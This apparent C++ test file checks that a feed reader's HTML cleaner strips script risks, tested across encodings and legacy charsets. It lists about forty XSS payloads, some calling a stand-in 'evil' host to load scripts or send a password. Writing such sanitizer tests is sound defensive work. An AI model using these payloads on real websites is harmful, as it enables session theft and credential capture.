// The cleaner checked from outside: what it writes is read by a conforming HTML5 parser, the way
// the record pane's browser reads it, and nothing that runs script may be found there.

#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <memory>

#include "html/cleaning.h"
#include "oracle/browser_oracle.h"
#include "oracle/feed_pipeline.h"
#include "parse/charsets/encoding_choice.h"
#include "support/temp_dir.h"

namespace tarsel {
namespace {

using testing::FindChannelRisk;
using testing::FindScriptRisk;

// Each one runs script (or loads a document) when a browser reads it as it stands.
constexpr const char* kAttackVectors[] = {
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\" &#x09;java&#x0A;script&colon;alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD4=\">x</a>",
    "<<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
    "<.<embed src=\"http://evil/x.swf\">",
    "<1<base href=\"http://evil/\">",
    "<<script src=\"http://evil/x.js\"></script>",
    "< <script>alert(1)</script>",
    "<?x a=\"><img src=x onerror=alert(1)>\">",
    "<!x a=\"><img src=x onerror=alert(1)>\">",
    "</ x a=\"><img src=x onerror=alert(1)>\">",
    "<!-- x --!><img src=x onerror=alert(1)>-->",
    "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>",
    "<svg><animate attributeName=href values=\"&#106;avascript:alert(1)\"/></svg>",
    "<svg><set attributeName=href to=\"javascript:alert(1)\"/></svg>",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<link rel=\"stylesheet\" href=\"http://evil/s.css\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
    "<p style=\"width:expression(alert(1))\">x</p>",
    "<p style=\"background:url(&quot;javascript:alert(1)&quot;)\">x</p>",
    "<p style=\"-moz-binding:url(http://evil/x.xml#x)\">x</p>",
    "<p style=\"x:ex/**/pr\\65 ssion(alert(1))\">x</p>",
    "<form action=\"javascript:alert(1)\"><button>x</button></form>",
    "<button formaction=\"javascript:alert(1)\">x</button>",
    "<object data=\"http://evil/x.swf\"></object>",
    "<svg onload=alert(1)>",
    "<table background=\"javascript:alert(1)\">",
    "<video poster=\"javascript:alert(1)\">",
    "<a href=x title='>' onclick=alert(1)>x</a>",
    "<img src=\"x\"/onerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<iframe/src=\"data:text/html,<script>alert(1)</script>\">",
    "<form action=\"http://evil/\"><input type=password name=p></form>",
    "<svg><set attributeName=\"onmouseover\" to=\"alert(1)\"/></svg>",
    "<svg><animate attributeName=\" OnClick\" values=\"alert(1)\"/></svg>",
    "<img src=\"x\" alt=\"a",
    "<svg><desc><plaintext>x",
};

TEST(BrowserOracleTest, AttackVectorsAreCaughtAndCleaned) {
  for (const char* vector : kAttackVectors) {
    SCOPED_TRACE(vector);
    EXPECT_NE(FindScriptRisk(vector), "") << "the oracle must see the risk in the raw vector";
    for (const char* base : {"", "http://site/blog/"}) {
      const std::string cleaned = HTML::CleanHtml(vector, base);
      EXPECT_EQ(FindScriptRisk(cleaned), "") << cleaned;
    }
  }
}

// HTML reads a character reference past U+10FFFF, however long, as U+FFFD: neither the oracle
// nor the cleaner may take one for the letter its low bits spell.
TEST(BrowserOracleTest, ReferencesPastTheLastCodePointAreNoLetters) {
  const char* const harmless[] = {
      "<a href=\"java&#x1000000073;cript:alert(1)\">x</a>",
      "<a href=\"java&#x1000000073cript:alert(1)\">x</a>",
      "<a href=\"java&#4294967411;cript:alert(1)\">x</a>",
      "<a href=\"&#x10000006A;avascript:alert(1)\">x</a>",
      "<svg><set attributeName=href to=\"java&#x100000073;cript:alert(1)\"/></svg>",
  };
  for (const char* html : harmless) {
    EXPECT_EQ(FindScriptRisk(html), "") << html;
    EXPECT_EQ(FindScriptRisk(HTML::CleanHtml(html, "")), "") << html;
    EXPECT_NE(HTML::CleanHtml(html, "").find("href"), std::string::npos) << "kept: " << html;
  }
  EXPECT_NE(FindScriptRisk("<a href=\"java&#x73;cript:alert(1)\">x</a>"), "");
}

constexpr EncodingChoice kEverySetting[] = {
    EncodingChoice::kAutomatic, EncodingChoice::kWesternEurope, EncodingChoice::kCyrillicWindows,
    EncodingChoice::kCentralEuropean};

TEST(BrowserOracleTest, GoldenFeedsComeOutCleanUnderEverySetting) {
  int feeds = 0;
  for (const auto& entry : std::filesystem::directory_iterator(TARSEL_TEST_DATA "/feeds")) {
    const std::string extension = entry.path().extension().string();
    const std::string name = entry.path().filename().string();
    const bool json_feed = extension == ".json" && !name.ends_with(".expected.json");
    if (extension != ".xml" && extension != ".rss" && extension != ".html" && !json_feed) continue;
    const std::string body = testing::ReadFileBytes(entry.path().string());
    for (const EncodingChoice setting : kEverySetting) {
      SCOPED_TRACE(entry.path().filename().string() + " " +
                   std::string(EncodingChoiceName(setting)));
      const auto channel = testing::ParseBodyAsTheCliDoes(body, setting);
      if (!channel) continue;
      ++feeds;
      EXPECT_EQ(FindChannelRisk(*channel), "");
    }
  }
  EXPECT_GE(feeds, 8 * 4);
}

// The single-byte tables turn some bytes into a blank (0x80 of KOI8-R, 0x85 of ISO-8859-2 under
// a single-byte setting) and end the text at a zero byte. Placed where the cleaner reads a name
// or a value, either must already have happened when it reads them.
TEST(BrowserOracleTest, LegacyCharsetBytesOpenNoWayPastTheCleaner) {
  const struct {
    const char* charset;
    char blank;
  } charsets[] = {{"koi8-r", '\x80'}, {"iso-8859-2", '\x85'}};
  // '#' stands for the byte that becomes a blank.
  const std::string descriptions[] = {
      "<img src=\"data:image/png,x\" #onerror=\"alert(1)\">",
      "<svg#onload=alert(1)>",
      "<a href=\"#javascript:alert(1)\">x</a>",
      std::string("<img src=\"x\" alt=\"a\0b\">after", 28),
  };
  for (const auto& charset : charsets) {
    for (std::string description : descriptions) {
      std::replace(description.begin(), description.end(), '#', charset.blank);
      const std::string body = std::string("<?xml version=\"1.0\" encoding=\"") + charset.charset +
                               "\"?><rss version=\"2.0\"><channel><title>T</title><item>"
                               "<title>I</title><description><![CDATA[" +
                               description + "]]></description></item></channel></rss>";
      for (const EncodingChoice setting : kEverySetting) {
        SCOPED_TRACE(std::string(charset.charset) + " " + std::string(EncodingChoiceName(setting)) +
                     ": " + description);
        const auto channel = testing::ParseBodyAsTheCliDoes(body, setting);
        ASSERT_TRUE(channel.has_value());
        ASSERT_EQ(channel->records.size(), 1u);
        EXPECT_EQ(FindChannelRisk(*channel), "") << channel->records[0]->description;
      }
    }
  }
}

// An update parses each description once for its summary and its cleaning; the channel must be
// the one the two separate steps give, with and without a summary line limit.
TEST(BrowserOracleTest, SingleParseOfDescriptionsChangesNothing) {
  for (const int rows : {0, 1, 3}) {
    for (const auto& entry : std::filesystem::directory_iterator(TARSEL_TEST_DATA "/feeds")) {
      if (entry.path().extension() != ".xml") continue;
      SCOPED_TRACE(entry.path().filename().string() + " rows " + std::to_string(rows));
      EXPECT_EQ(testing::DifferenceOfSingleParse(testing::ReadFileBytes(entry.path().string()),
                                                 EncodingChoice::kAutomatic, rows),
                "");
    }
  }
}

}  // namespace
}  // namespace tarsel
